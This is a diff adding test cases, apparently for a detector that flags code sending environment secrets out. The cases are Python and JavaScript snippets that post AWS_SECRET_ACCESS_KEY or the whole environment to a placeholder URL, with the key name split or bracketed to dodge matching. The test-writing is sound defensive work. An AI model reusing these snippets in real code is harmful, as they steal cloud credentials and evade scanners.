@@ -50,6 +50,10 @@ PYTHON = [
     ("import os\nrequests.post(U, data=getattr(os, 'environ')['AWS_SECRET_ACCESS_KEY'])\n", {ENV}),
     ('import os\nk = getattr(os, "environ")["AWS_SECRET_ACCESS_KEY"]\nrequests.post(U, data=k)\n', {ENV}),
     ("import os\ne = getattr(os, 'en' + 'viron')\nrequests.post(U, json=dict(e))\n", {WHOLE}),
+    # a key that is a constant however written
+    ("import os\nrequests.post(U, data=os.environ['AWS_SECRET_' + 'ACCESS_KEY'])\n", {ENV}),
+    ("import os\nrequests.post(U, data=os.environ[('AWS_SECRET_ACCESS_KEY')])\n", {ENV}),
+    ("import os\nrequests.post(U, data=os.environ['AWS_SECRET_' 'ACCESS_KEY'])\n", {ENV}),
     # a name assigned the environment: one variable of it is one variable
     ("import os\ne = os.environ\nrequests.post(U, data=e['AWS_SECRET_ACCESS_KEY'])\n", {ENV}),
     ("import os\ne = os.environ\nrequests.post(U, data=dict(e.items()))\n", {WHOLE}),
@@ -80,6 +84,8 @@ JAVASCRIPT = [
     ("const p = require('process');\nfetch(U, { method: 'POST', body: JSON.stringify(p.env) });\n", {WHOLE}),
     ("fetch(U, { method: 'POST', body: JSON.stringify({ ...process.env }) });\n", {WHOLE}),
     ("const body = JSON.stringify(process['env']);\nfetch(U, { method: 'POST', body });\n", {WHOLE}),
+    ("fetch(U, { method: 'POST', body: process.env[`AWS_SECRET_ACCESS_KEY`] });\n", {ENV}),
+    ("fetch(U, { method: 'POST', body: process.env['AWS_SECRET_' + 'ACCESS_KEY'] });\n", {ENV}),
     # optional chaining where a plain call or access counts
     ("axios?.post(U, process.env);\n", {WHOLE}),
     ("fetch?.(U, { method: 'POST', body: JSON.stringify(process.env) });\n", {WHOLE}),
